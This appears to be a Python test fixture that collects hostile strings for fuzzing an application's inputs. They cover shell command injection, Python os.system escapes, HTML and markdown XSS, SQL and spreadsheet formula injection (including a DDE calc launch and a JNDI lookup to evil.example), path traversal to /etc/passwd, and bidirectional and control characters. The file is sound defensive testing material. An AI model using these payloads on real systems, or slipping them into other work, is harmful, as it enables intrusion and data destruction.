"""Texts that a stranger may type, name a file, keep in an archive or answer with, as an API."""

from __future__ import annotations

import re
from functools import cache

# Each runs, or writes a file named `owned`, where it gets out of its quotes.
SHELL = (
    "$(curl owned)", "`curl owned`", "; curl owned", "| curl owned", "& curl owned &", "&& curl owned",
    "|| curl owned",
    "'; curl owned; '", '"; curl owned; "', "'\"'\"'; curl owned; #", "\n curl owned\n", "\r\ncurl owned\r\n",
    "$(>owned)",
    "`>owned`", "> owned", "'>owned'", ">>owned", "<(curl owned)", "${PATH:0:1}", "$((1/0))", "${x:=$(>owned)}",
    "\\",
    "\\\\", "\\'", "'", '"', "''", "'''", '"""', "\\n", "%s%s%s%n", "%", "%%", "!!", "!-1", "{a,b}", "~root", "*",
    "?", "[a-z]*",
    "EOF\ncurl owned\nEOF", "#", "-rf /", "--help", "@owned", "@/etc/passwd", "$IFS", "$0", "\x04", "\x03",
    "\x1a", "'\n'>owned'\n'",
    "'''; __import__('os').system('>owned') #", "{__import__('os')}", "{0.__class__}",
    "\"\"\"\n__import__('os').mkdir('owned')\n\"\"\"",
    "\\\n'''", "\\u0027; curl owned", "\\x27; curl owned", "'$(>owned)'", "\u2019; curl owned", "＇; curl owned",
)  # fmt: skip

MARKDOWN = (
    "[link](https://evil.example)", "[link](javascript:alert(1))", "![x](https://evil.example/a.png)",
    "![x](data:image/png;base64,AA)",
    "<https://evil.example>", "https://evil.example", "HTTPS://EVIL.EXAMPLE", "www.evil.example",
    "evil@evil.example", "mailto:evil@evil.example",
    "[a]: https://evil.example\n\n[a]", "[a][a]\n\n[a]: javascript:alert(1)", "[^1]\n\n[^1]: note", "# heading",
    "heading\n===", "heading\n---",
    "***", "---", "- item", "+ item", "1. item", "1) item", "> quote", "    code", "\tcode", "```\ncode\n```",
    "~~~\ncode\n~~~", "`code`",
    "**bold**", "__bold__", "*it*", "_it_", "~~gone~~", "~one~", "| a | b |\n|---|---|\n| 1 | 2 |", "- [x] done",
    "a  \nb", "a\\\nb",
    ":red[red]", ":red-background[red]", ":blue-badge[badge]", ":small[small]", ":rainbow[all]",
    ":violet[:red[x]]", ":material/delete:",
    ":material/open_in_new: :material/home:", ":streamlit:", ":smile:", ":+1:", ":skull_and_crossbones:",
    ":red[](x)", ":name[a]{href=b}",
    "::name{a=b}", ":::note\nx\n:::", "$x^2$", "$$\\href{javascript:alert(1)}{x}$$", "$\\unicode{60}$",
    "$\\url{https://evil.example}$",
    "$\\includegraphics{https://evil.example/a.png}$", "costs $5 or $6", "\\(x\\)", "\\[x\\]",
    "-> <- <-- --> => <=> -- --- >= <=", "(c) (r) (tm)",
    "&lt;b&gt;", "&#60;script&#62;", "&#x202e;evil", "&colon;smile&colon;", "&#58;material/delete&#58;",
    "&amp;lt;", "&nbsp;", "&copy;",
    "\\[link\\](https://evil.example)", "\\\\[link](https://evil.example)", "\\![x](https://evil.example/a.png)",
    "ftp://evil.example",
    "//evil.example", "evil.example", "tel:112", "xmpp:a@evil.example", "http://evil.example:80/?a=b#c",
    "https\u200b://evil.example",
    "{{ 7*7 }}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "![[x]]", "[[x]]", "<!-- x -->", "<!DOCTYPE html>",
    "<![CDATA[x]]>", "<?php x ?>",
)  # fmt: skip

HTML = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>", "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>",
    "<form action=//evil.example><input>",
    "<details open ontoggle=alert(1)>", "<b>bold", "</div></div></body>", "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "javascript:alert(1)", "<scr<script>ipt>", "<ScRiPt>alert(1)</sCrIpT>",
    "<math><mtext></form><form><mglyph><svg><mtext>",
    "\u003cimg src=x\u003e", "＜script＞alert(1)＜/script＞", "<img/src='x'/onerror=alert(1)//", "<<b>>",
    "<x:script xmlns:x='a'/>",
)  # fmt: skip

SIGNS = (
    "\u202egpj.exe", "abc\u202edef", "\u202dabc", "\u202aabc", "\u202babc", "\u2066abc", "\u2067abc", "\u2068abc",
    "abc\u2069def",
    "\u2069\u202egnp", "\u2067\u2067\u2067abc", "\u202c\u202c\u202cabc", "\u200eabc\u200f", "\u061cabc",
    "שלום עולם", "مرحبا بالعالم",
    "oak עץ 12 (3)", "\u200b", "o\u200ba\u200ck\u200d", "\ufeffoak", "oak\u00ad", "\u2060\u2061\u2062",
    "a\u0300" * 200, "z" + "\u0351" * 900,
    "\ufdfd" * 40, "𒐫" * 50, "\U0001f3f4\U000e0067\U000e0062\U000e007f", "\U000e0041\U000e0042",
    "👩\u200d👩\u200d👧\u200d👦" * 30, "\ufe0f",
    "\x00", "a\x00b", "\ud800", "a\udfffb", "\ud83d", "\x01\x02\x03", "\x07\x08", "\x0b\x0c", "\x1b[31mred",
    "\x1b[2J\x1b[H", "\x1b]0;owned\x07",
    "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b[8m hidden", "\x9b31m", "\x85", "\u2028a\u2029b",
    "a\rb", "\r\n\r\n<b>", "\x7f",
    "\uffff", "\ufffe", "\U0010ffff", "\ufff9a\ufffab\ufffb", "\u180e", "\u3164", "ᅟᅠ", "\u00a0", "   ", "\t\n",
    "", "İ", "ß" * 40, "ﬀ", "Ω≈ç√", "𝐨𝐚𝐤", "ⅷ",
)  # fmt: skip

DATABASE = (
    "' OR '1'='1", "'; DROP TABLE runs; --", '" OR ""="', "1; SELECT 1", "admin'--",
    "' UNION SELECT * FROM blobs --", "%' OR '%'='", "%", "_",
    "%%%%", "\\%", "\\_", "100%", "a_b", "[a]", "*:*", "NEAR(", '"', "-", "NULL", "null", "undefined", "None",
    "NaN", "true", "0", "-1", "1e309",
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example")', "\t=1", "DDE",
    "${jndi:ldap://evil.example/a}",
)  # fmt: skip

NAMES = (
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\x", "\\\\host\\share", "CON", "nul.png", "a/b",
    ".", "..", ".htaccess", "a\nb.png",
    "a\r\nContent-Type: text/html\r\n\r\n<b>.png", "a.png\x00.exe", "a" * 300 + ".png", "\u202egnp.exe",
    "a;b.png", 'a".png', "~", "-o", "a.png ",
    "https://evil.example/a.png", "file:///a", "a%2f..%2fb", "%00", "a:b", "a|b", "a?b", "a*b", "a<b>c",
)  # fmt: skip

LONG = (
    "x" * 10_000, "x" * 10_001, "x " * 5_000, "(" * 10_000, "[" * 9_000,
    "((((" * 2_000 + "oak:2" + "))))" * 2_000, ",.;:" * 2_500, "no " * 3_300,
    "oak and " * 1_200, "not without no " * 600, "1." * 5_000, "\n" * 9_999 + "a", "a\n" * 4_999, "é" * 10_000,
    "🪵" * 5_000, "a-" * 5_000, "a:1.5 " * 1_600,
    "9" * 10_000, "(oak:" + "9" * 9_000 + ")", "(oak:1e999)", "(oak:nan)", "(oak:-inf)", "of " * 3_300,
    "with glass and oak, " * 500, "\u0301" * 9_000,
    " " * 9_999 + "a", "a" + " " * 9_998, "_" * 10_000, "*" * 10_000, "`" * 10_000, "$" * 10_000, "![" * 5_000,
    "&" * 10_000, "<" * 10_000, "\\" * 10_000,
    "a@" * 5_000, "https://" * 1_250, "www." * 2_500, ":a:" * 3_333, "'" * 10_000, '"' * 10_000,
)  # fmt: skip


@cache
def strings() -> tuple[str, ...]:
    """All of them, each once."""
    return tuple(dict.fromkeys((*SHELL, *MARKDOWN, *HTML, *SIGNS, *DATABASE, *NAMES, *LONG)))


def label(text: str) -> str:
    """Names a string in a failure."""
    return ascii(text[:40])


def shown() -> list[str]:
    """Those that can travel to a browser and are short enough to be looked at."""
    return [text for text in strings() if len(text) < 1_000 and not re.search("[\0\ud800-\udfff]", text)]
